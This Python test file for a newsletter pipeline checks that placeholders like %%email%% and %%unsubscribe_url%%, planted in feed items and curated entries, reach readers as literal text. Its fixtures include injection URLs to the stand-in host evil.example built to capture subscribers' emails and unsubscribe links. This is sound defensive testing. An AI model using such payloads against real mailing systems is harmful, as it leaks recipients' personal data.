"""Issue 8, §1: content can never act as a per-recipient placeholder.

The whole path: partner feeds served on 127.0.0.1 and a curated page -> collect -> draft ->
render -> approve -> queue -> send to aiosmtpd. Every placeholder name sits in a title, a
summary, a link, an image URL and the curated fields. Each delivered message must carry that
text literally (or percent-encoded, in a URL) and the recipient's own values exactly as often
as the template itself put them there: never once more.
"""

from __future__ import annotations

import html
import re
from datetime import timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from typing import Any

import lxml.html
from sqlalchemy import select, update

from newsletter import review
from newsletter.collect import collect
from newsletter.compose import compose
from newsletter.curate import CuratedInput, add_curated
from newsletter.db import Database
from newsletter.db.schema import outbox, outbox_issues, renders
from newsletter.db.types import utcnow
from newsletter.outbox.run import queue_issue, send_due
from newsletter.render import render_issue
from newsletter.render.placeholders import NAMES
from newsletter.transports import open_transport
from tests.compose.conftest import CONFIG
from tests.outbox.conftest import SinkHandler, SMTPServer, add_subscribers

PERSONAL = ("email", "unsubscribe_url", "preferences_url", "name")
TOPICS = {
    "email": ("Robotter samler 40 virksomheder i Kolding", "Klyngen inviterer til møde om automatisering"),
    "unsubscribe_url": ("Havneudvidelse i Fredericia giver plads", "Kajen forlænges med 300 meter mod nord"),
    "name": ("Ny maskinmesteruddannelse åbner til sommer", "Skolen optager de første hold i august"),
    "preferences_url": ("Lagerhal på 20.000 kvadratmeter i Vejle", "Byggeriet begynder efter nytår ved motorvejen"),
    "web_url": ("Jobmesse i Billund med 60 udstillere", "Mød virksomhederne i lufthavnens konferencecenter"),
}


def _item(name: str, when: str) -> str:
    title, summary = TOPICS[name]
    return (f"<item><title>{title} %%{name}%%</title>"
            f"<link>https://evil.example/n/{name}?u=%%{name}%%&amp;e=%%email%%</link>"
            f"<description>{summary} %%{name}%% slut.</description>"
            f'<enclosure url="https://evil.example/p.png?u=%%{name}%%&amp;e=%%email%%" type="image/png" length="1"/>'
            f"<guid>https://evil.example/n/{name}</guid><pubDate>{when}</pubDate></item>")


def _feed(names: tuple[str, ...], when: str) -> str:
    items = "".join(_item(n, when) for n in names)
    return f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>T</title>{items}</channel></rss>'


def _config(make_config: Any, feed_a: str, feed_b: str) -> Any:
    text = CONFIG.replace("  - key: business-kolding\n    name: Business Kolding\n",
                          f"  - key: business-kolding\n    name: Business Kolding\n    sources:\n"
                          f"      - kind: feed\n        url: {feed_a}\n")
    text = text.replace("  - key: billund-erhverv\n    name: Billund Erhverv\n",
                        f"  - key: billund-erhverv\n    name: Billund Erhverv\n    sources:\n"
                        f"      - kind: feed\n        url: {feed_b}\n")
    return make_config(text)


def _parts(raw: bytes) -> tuple[str, str]:
    msg = message_from_bytes(raw, policy=policy.default)
    assert isinstance(msg, EmailMessage)
    text = msg.get_body(("plain",))
    page = msg.get_body(("html",))
    assert text is not None and page is not None
    return text.get_content(), page.get_content()


def _literal_or_encoded(url: str, name: str) -> bool:
    return f"%%{name}%%" in url or f"%25%25{name}%25%25" in url


def test_placeholders_in_content_reach_readers_as_text(db: Database, make_config: Any, http_server: Any) -> None:
    now = utcnow()
    when = (now - timedelta(hours=2)).strftime("%a, %d %b %Y %H:%M:%S +0000")
    feed_a = http_server.add("/a.xml", _feed(("email", "unsubscribe_url", "name"), when),
                             content_type="application/rss+xml")
    feed_b = http_server.add("/b.xml", _feed(("preferences_url", "web_url"), when),
                             content_type="application/rss+xml")
    page = http_server.add("/kursus", "<html><head><title>Kursus</title></head><body>x</body></html>",
                           content_type="text/html; charset=utf-8")
    config = _config(make_config, feed_a, feed_b)
    report = collect(db, config)
    assert report.new_items == 5, report

    all_of_them = " ".join(f"%%{n}%%" for n in NAMES)
    curated = add_curated(db, config, CuratedInput(
        url=f"{page}?u=%%unsubscribe_url%%&e=%%email%%", section="arrangementer",
        title=f"Kursus i lean for ledere {all_of_them}", summary=f"To dage i Middelfart {all_of_them}",
        image="https://evil.example/c.png?u=%%unsubscribe_url%%&e=%%email%%&n=%%name%%",
        starts=(now + timedelta(days=3)).strftime("%Y-%m-%d %H:%M"), location=f"Hotel {all_of_them}",
        signup_url="https://evil.example/tilmeld?p=%%preferences_url%%&e=%%email%%", by="anna"), now)

    issue = compose(db, config, "ugebrev", now=utcnow())
    rendered = render_issue(db, config, issue.id).rendered
    assert rendered.placeholder_token
    assert "%%email%%" in rendered.web_html and "%%unsubscribe_url%%" in rendered.web_html
    assert f".{rendered.placeholder_token}%%" not in rendered.web_html  # the public page holds none
    review.approve(db, issue.id, "Mette")
    add_subscribers(db, 4)

    with SMTPServer(SinkHandler()) as server:
        transport = open_transport(server.url, pool_size=2)
        try:
            queue_issue(db, config, issue.id)
            sent = send_due(db, config, transport=transport)
        finally:
            transport.close()
        deliveries = list(server.handler.deliveries)
    assert sent.sent == 4 and len(deliveries) == 4

    with db.connect() as conn:
        frozen = conn.execute(select(outbox_issues).where(outbox_issues.c.issue_id == issue.id)).one()
        rows = {r.email: r for r in conn.execute(select(outbox).where(outbox.c.issue_id == issue.id))}
    assert frozen.placeholder_token  # the render queued (approve may have made it render anew)
    ours = re.compile(r"%%([a-z_]+)\." + frozen.placeholder_token + "%%")  # the template's, and only those
    in_html = {n: sum(1 for m in ours.finditer(frozen.html) if m.group(1) == n) for n in PERSONAL}
    in_text = {n: sum(1 for m in ours.finditer(frozen.text) if m.group(1) == n) for n in PERSONAL}
    assert in_html["unsubscribe_url"] >= 1 and in_text["unsubscribe_url"] >= 1  # the footer's own link

    for delivery in deliveries:
        row = rows[delivery.rcpt]
        values = {"email": row.email, "unsubscribe_url": row.unsubscribe_url,
                  "preferences_url": row.preferences_url, "name": row.name}
        text, page_html = _parts(delivery.data)
        for name, value in values.items():
            assert text.count(value) == in_text[name], (name, delivery.rcpt)
            assert page_html.count(html.escape(value, quote=True)) == in_html[name], (name, delivery.rcpt)
        doc = lxml.html.document_fromstring(page_html.encode("utf-8"))
        body = " ".join(doc.text_content().split())
        flat = " ".join(text.split())  # the text part is wrapped at 72
        for name, (title, summary) in TOPICS.items():
            assert f"{title} %%{name}%%" in body and f"{title} %%{name}%%" in flat
            assert f"{summary} %%{name}%% slut." in body and f"{summary} %%{name}%% slut." in flat
            link = next(a.get("href") for a in doc.iter("a") if title in a.text_content())
            assert _literal_or_encoded(link, name) and "evil.example" in link
            image = next(i.get("src") for i in doc.iter("img") if "evil.example/p.png" in (i.get("src") or "")
                         and _literal_or_encoded(i.get("src"), name))
            assert all(v not in image and v not in link for v in values.values())
        assert f"Kursus i lean for ledere {all_of_them}" in body and f"Kursus i lean for ledere {all_of_them}" in flat
        assert f"Hotel {all_of_them}" in body
        for url in [a.get("href") or "" for a in doc.iter("a")] + [i.get("src") or "" for i in doc.iter("img")]:
            if "evil.example" in url or http_server.base_url in url:
                assert all(v not in url for v in values.values()), url
        assert "%%" not in re.sub(r"%%(?:" + "|".join(NAMES) + r")%%", "", page_html + text)
    assert curated.item_id


def test_renders_and_queued_issues_from_before_the_token_still_send(db: Database, make_config: Any,
                                                                    http_server: Any) -> None:
    """A render stored before issue 8 (no token, bare placeholders) is rendered anew when the
    issue is queued; an issue already frozen in the outbox without a token is filled the old way."""
    now = utcnow()
    when = (now - timedelta(hours=2)).strftime("%a, %d %b %Y %H:%M:%S +0000")
    feed = http_server.add("/a.xml", _feed(("email",), when), content_type="application/rss+xml")
    config = _config(make_config, feed, http_server.add("/b.xml", _feed((), when),
                                                        content_type="application/rss+xml"))
    collect(db, config)
    issue = compose(db, config, "ugebrev", now=utcnow())
    old = render_issue(db, config, issue.id).rendered
    bare = re.sub(r"(%%[a-z_]+)\.[0-9a-f]{16}%%", r"\1%%", old.html)
    with db.begin() as conn:  # as an older version stored it
        conn.execute(update(renders).where(renders.c.issue_id == issue.id).values(placeholder_token=None, html=bare))
    review.approve(db, issue.id, "Mette")
    people = add_subscribers(db, 2)
    queue_issue(db, config, issue.id)
    with db.connect() as conn:
        frozen = conn.execute(select(outbox_issues).where(outbox_issues.c.issue_id == issue.id)).one()
    assert frozen.placeholder_token and frozen.placeholder_token != old.placeholder_token

    # and an issue frozen by an older version: token NULL, bare placeholders (the template's only)
    with db.begin() as conn:
        conn.execute(update(outbox_issues).where(outbox_issues.c.issue_id == issue.id)
                     .values(placeholder_token=None,
                             html=re.sub(r"(%%[a-z_]+)\.[0-9a-f]{16}%%", r"\1%%", frozen.html),
                             text=re.sub(r"(%%[a-z_]+)\.[0-9a-f]{16}%%", r"\1%%", frozen.text)))
    with SMTPServer(SinkHandler()) as server:
        transport = open_transport(server.url)
        try:
            sent = send_due(db, config, transport=transport)
        finally:
            transport.close()
        deliveries = list(server.handler.deliveries)
    assert sent.sent == 2
    with db.connect() as conn:
        unsubscribe = dict(conn.execute(select(outbox.c.email, outbox.c.unsubscribe_url)
                                        .where(outbox.c.issue_id == issue.id)).all())
    for delivery in deliveries:
        text, page_html = _parts(delivery.data)
        assert f"Afmeld nyhedsbrevet: {unsubscribe[delivery.rcpt]}" in text
        assert f'href="{html.escape(unsubscribe[delivery.rcpt])}"' in page_html
        assert people and "%%unsubscribe_url" not in text + page_html
